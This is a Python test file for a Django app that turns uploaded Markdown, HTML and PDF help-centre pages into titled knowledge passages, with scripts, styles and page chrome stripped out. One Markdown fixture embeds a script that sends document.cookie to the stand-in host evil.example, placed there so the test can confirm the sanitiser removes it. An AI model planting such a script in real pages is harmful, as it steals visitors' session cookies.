"""Help-centre pages as knowledge: Markdown, HTML and PDF files become passages titled by their headings,
scripts and styles left out, saved through the dataset services as a version of Q&A documents."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from inference.models import KnowledgeIndex
from products.datasets.selectors import dataset_version_examples
from products.knowledge.documents import Section, sections_from_file
from products.models import Product
from products.services import product_create
from studio.roles import Role
from tests.knowledge import faq_version, pdf_bytes
from tests.products.conftest import state

pytestmark = pytest.mark.django_db

RETURNS_MD = """Everything about sending things back.

# Returns

You can return any unused item within **30 days**.
<script>fetch("https://evil.example/?c=" + document.cookie)</script>

## Refunds

Refunds reach your card in 5 working days.
<style>.refund { color: red }</style>

- Card payments: 5 days
- PayPal: 1 day

### Gift cards

Gift cards are refunded as store credit.

# Shipping

Shipping is free over 50 €.
"""

HELP_HTML = """<!doctype html><html><head><title>Shop help</title><style>body{font:14px}</style>
<script>alert("hi")</script></head><body>
<nav><a href="/">Home</a> | <a href="/help">Help</a></nav>
<p>Welcome to our help centre.</p>
<h1>Delivery</h1><p>Standard delivery takes 2&ndash;4 days.</p>
<h2>Express</h2><p>Express costs 9.95&nbsp;&euro;<br>and arrives tomorrow.</p>
<script type="text/javascript">document.write("<h2>Injected</h2>")</script>
<h2>Pick-up</h2><p></p>
<h1>Payment</h1><div><p>We accept Visa &amp; PayPal.</p><template><p>hidden</p></template></div>
<footer>© Shop 2026</footer></body></html>"""


def test_markdown_becomes_one_section_per_heading_titled_by_its_heading_path_without_scripts_or_styles():
    sections = sections_from_file(filename="returns_help.md", data=RETURNS_MD.encode())
    assert sections == [
        Section("Returns help", "Everything about sending things back."),
        Section("Returns", "You can return any unused item within 30 days."),
        Section("Returns › Refunds", "Refunds reach your card in 5 working days.\nCard payments: 5 days\n"
                                     "PayPal: 1 day"),
        Section("Returns › Refunds › Gift cards", "Gift cards are refunded as store credit."),
        Section("Shipping", "Shipping is free over 50 €."),
    ]
    assert not any("cookie" in s.text or "color" in s.text for s in sections)


def test_html_becomes_sections_under_its_headings_with_scripts_styles_menus_and_footers_left_out():
    sections = sections_from_file(filename="help.html", data=HELP_HTML.encode())
    assert sections == [
        Section("Shop help", "Welcome to our help centre."),
        Section("Delivery", "Standard delivery takes 2–4 days."),
        Section("Delivery › Express", "Express costs 9.95 €\nand arrives tomorrow."),  # &nbsp; read as a space
        Section("Payment", "We accept Visa & PayPal."),
    ]
    text = " ".join(s.title + s.text for s in sections)
    assert all(word not in text for word in ("alert", "Injected", "font", "Home", "©", "hidden"))


def test_markdown_front_matter_is_left_out_and_its_title_names_the_text_before_the_first_heading():
    page = "---\ntitle: \"Care guide\"\nlayout: help\n---\nLook after your things.\n\n# Linen\n\nWash at 40 °C.\n"
    assert sections_from_file(filename="care.md", data=page.encode()) == [
        Section("Care guide", "Look after your things."), Section("Linen", "Wash at 40 °C.")]


def test_pdf_text_becomes_one_section_per_page_titled_by_the_file_and_page():
    data = pdf_bytes(["Warranty: two years on every kettle.", "Keep the receipt."])
    assert sections_from_file(filename="warranty-terms.pdf", data=data) == [
        Section("Warranty terms › page 1", "Warranty: two years on every kettle.\nKeep the receipt.")]


@pytest.mark.parametrize(("filename", "data", "message"), [
    ("notes.docx", b"PK\x03\x04", "notes.docx is not a Markdown (.md), HTML (.html) or PDF (.pdf) file. Upload CSV, "
                                  "JSONL or TXT files on the Datasets page instead."),
    ("empty.html", b"<html><script>x()</script><style>p{}</style></html>",
     "empty.html has no text under its headings (only markup, scripts or styles). Check you chose the page "
     "itself, not a template."),
    ("latin.md", "# Café\n\nOuvert à 9 h".encode("latin-1"),
     "latin.md is not UTF-8 text. Save it as UTF-8 (most editors: Save As › Encoding › UTF-8) and upload it "
     "again."),
    ("broken.pdf", b"%PDF-1.4\nnot really", "broken.pdf could not be read as a PDF"),
])
def test_a_file_that_cannot_be_read_is_refused_naming_the_file(filename, data, message):
    with pytest.raises(ValidationError) as refused:
        sections_from_file(filename=filename, data=data)
    assert refused.value.message_dict["files"][0].startswith(message)


@pytest.fixture
def assistant(owner_client):
    return product_create(team=owner_client.team, user=owner_client.user, kind_id="qa", template_id="help-centre",
                          name="Help desk", knowledge_version=faq_version(owner_client.team, owner_client.user))


def _upload(client, product, *files, name="Help-centre pages"):
    return client.post(reverse("knowledge_documents", args=[product.team.slug, product.slug]), {
        "name": name, "files": [SimpleUploadedFile(filename, data) for filename, data in files]})


def test_pages_uploaded_on_the_knowledge_tab_become_a_documents_version_the_draft_answers_from(
    owner_client, assistant
):
    page = owner_client.get(reverse("knowledge_settings", args=[assistant.team.slug, assistant.slug]))
    assert "Upload help-centre pages" in page.content.decode()

    response = _upload(owner_client, assistant, ("returns.md", RETURNS_MD.encode()), ("help.html", HELP_HTML.encode()))
    assert response.status_code == 302
    assistant = Product.objects.get(pk=assistant.pk)
    version = assistant.knowledge_version
    assert (version.dataset.name, version.kind, version.shape, version.row_count) == ("Help-centre pages", "qa",
                                                                                      "documents", 9)
    examples = list(dataset_version_examples(version))
    assert [e["title"] for e in examples] == [
        "Returns", "Returns", "Returns › Refunds", "Returns › Refunds › Gift cards", "Shipping",
        "Shop help", "Delivery", "Delivery › Express", "Payment"]
    assert examples[2]["document"].startswith("Refunds reach your card in 5 working days.")
    # Reading the new knowledge base is queued, as for a picked dataset.
    assert KnowledgeIndex.objects.get(dataset_version=version).status == "queued"
    page = owner_client.get(response["Location"]).content.decode()
    assert "Saved Help-centre pages v1 (9 passages, one per section). The draft now answers from it" in page


def test_one_unreadable_page_refuses_the_whole_upload_and_stores_nothing(owner_client, assistant, media_root):
    before = state(media_root)
    response = _upload(owner_client, assistant, ("returns.md", RETURNS_MD.encode()), ("notes.docx", b"PK\x03\x04"))
    assert response.status_code == 200
    assert "notes.docx is not a Markdown (.md), HTML (.html) or PDF (.pdf) file." in response.content.decode()
    assert state(media_root) == before
    assert Product.objects.get(pk=assistant.pk).knowledge_version == assistant.knowledge_version


def test_only_admins_upload_pages_and_other_teams_get_404(client, owner_client, assistant, make_member, make_team):
    client.force_login(make_member(owner_client.team, Role.EDITOR).user)
    assert "Upload help-centre pages" not in client.get(
        reverse("knowledge_settings", args=[assistant.team.slug, assistant.slug])).content.decode()
    assert _upload(client, assistant, ("returns.md", RETURNS_MD.encode())).status_code == 403
    client.force_login(make_team("Other").memberships.get().user)
    assert _upload(client, assistant, ("returns.md", RETURNS_MD.encode())).status_code == 404
    assert Product.objects.get(pk=assistant.pk).knowledge_version == assistant.knowledge_version
